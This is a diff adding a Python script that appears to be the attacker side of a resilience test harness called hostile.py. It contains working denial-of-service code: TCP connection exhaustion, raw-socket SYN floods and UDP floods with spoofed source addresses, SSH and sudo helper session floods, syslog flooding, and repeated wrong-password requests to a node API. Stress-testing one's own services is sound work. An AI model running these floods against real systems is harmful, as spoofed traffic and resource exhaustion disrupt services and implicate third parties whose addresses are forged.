@@ -1,0 +1,171 @@
+#!/usr/bin/env python3
+"""attackers.py KIND [ARGUMENT...]: one attacker of hostile.py, until it is killed. Prints
+"begun" once it is at work. It runs on the host, and as the user, whose part it plays.
+
+  connections ADDRESS PORT COUNT     idle TCP connections, made anew when they are closed
+  syns ADDRESS PORT NETWORK RATE     TCP SYNs from addresses of NETWORK, a /24, that nobody has
+  datagrams ADDRESS PORT SOURCE RATE UDP from all ports of SOURCE, which may be somebody else's
+  sessions COUNT SSH...              that many loops of a whole session
+  held COUNT SSH...                  that many sessions that stay, tried anew when refused
+  helpers COUNT HELPER               root's helpers, which are not told anything
+  garbage COUNT HELPER               loops of a helper that is told nonsense
+  lines RATE                         lines to syslog
+  requests ADDRESS PORT COUNT        loops of requests to the node API with a wrong password
+"""
+import base64
+import http.client
+import itertools
+import os
+import random
+import resource
+import socket
+import struct
+import subprocess
+import sys
+import syslog
+import threading
+import time
+
+PAUSE = 0.01  # s, between the batches of what is sent at a rate
+
+
+def begun():
+    print("begun", flush=True)
+
+
+def forever(count, work):
+    """So many threads, each doing `work` again and again, whatever it says."""
+    def loop():
+        while True:
+            try:
+                work()
+            except (OSError, subprocess.SubprocessError, http.client.HTTPException):
+                time.sleep(PAUSE)
+    threads = [threading.Thread(target=loop, daemon=True) for _ in range(count)]
+    for thread in threads:
+        thread.start()
+    begun()
+    threads[0].join()
+
+
+def at_rate(rate, send):
+    """Calls `send` so often each second, as well as it goes."""
+    begun()
+    start, sent = time.monotonic(), 0
+    while True:
+        for _ in range(max(0, int((time.monotonic() - start) * rate) - sent)):
+            try:
+                send()
+            except OSError:  # a full queue, an ICMP error
+                pass
+            sent += 1
+        time.sleep(PAUSE)
+
+
+def checksum(data):
+    total = sum(struct.unpack(f">{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def raw(source, target, protocol, payload):
+    """An IPv4 packet."""
+    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0,
+                       socket.inet_aton(source), socket.inet_aton(target))
+    return head + payload
+
+
+def raw_socket():
+    made = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    made.setblocking(False)
+    return made
+
+
+def connections(address, port, count):
+    def hold():
+        with socket.create_connection((address, int(port)), timeout=5) as held:
+            held.settimeout(None)
+            while held.recv(4096):  # the banner, and then nothing until sshd has had enough
+                pass
+    forever(int(count), hold)
+
+
+def syns(address, port, network, rate):
+    out = raw_socket()
+    prefix = network.rpartition(".")[0]
+
+    def send():
+        source = f"{prefix}.{random.randrange(100, 250)}"
+        tcp = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), int(port), random.getrandbits(32), 0, 0x50, 2, 64000, 0, 0)
+        pseudo = struct.pack(">4s4sBBH", socket.inet_aton(source), socket.inet_aton(address), 0, 6, len(tcp))
+        tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
+        out.sendto(raw(source, address, 6, tcp), (address, 0))
+    at_rate(int(rate), send)
+
+
+def datagrams(address, port, source, rate):
+    out = raw_socket()
+    ports = itertools.cycle(range(1024, 65536))
+
+    def send():
+        udp = struct.pack(">HHHH", next(ports), int(port), 12, 0) + b"junk"
+        out.sendto(raw(source, address, 17, udp), (address, 0))
+    at_rate(int(rate), send)
+
+
+def sessions(count, *ssh):
+    forever(int(count), lambda: subprocess.run(ssh, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                                               stderr=subprocess.DEVNULL, check=False, timeout=60))
+
+
+def held(count, *ssh):
+    def hold():
+        with subprocess.Popen(ssh, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as session:
+            session.wait()
+        time.sleep(0.1)
+    forever(int(count), hold)
+
+
+def helpers(count, helper):
+    def start():
+        with subprocess.Popen(["sudo", "-n", helper], stdin=subprocess.PIPE, stdout=subprocess.PIPE) as started:
+            started.wait()
+    forever(int(count), start)
+
+
+def garbage(count, helper):
+    def tell():
+        subprocess.run(["sudo", "-n", helper], input=b"session=x\n\n", stdout=subprocess.DEVNULL,
+                       stderr=subprocess.DEVNULL, check=False, timeout=60)
+    forever(int(count), tell)
+
+
+def lines(rate):
+    syslog.openlog("hostile", syslog.LOG_PID, syslog.LOG_AUTH)
+    at_rate(int(rate), lambda: syslog.syslog("x" * 900))
+
+
+def requests(address, port, count):
+    wrong = {"Authorization": "Basic " + base64.b64encode(b"nobody:wrong").decode()}
+
+    def ask():
+        connection = http.client.HTTPConnection(address, int(port), timeout=10)
+        try:
+            connection.request("GET", "/proxy/leases", headers=wrong)
+            connection.getresponse().read()
+        finally:
+            connection.close()
+    forever(int(count), ask)
+
+
+def main():
+    kinds = {each.__name__: each for each in (connections, syns, datagrams, sessions, held, helpers, garbage, lines, requests)}
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    os.nice(19)  # in the field their machine is another one
+    kinds[sys.argv[1]](*sys.argv[2:])
+
+
+if __name__ == "__main__":
+    main()
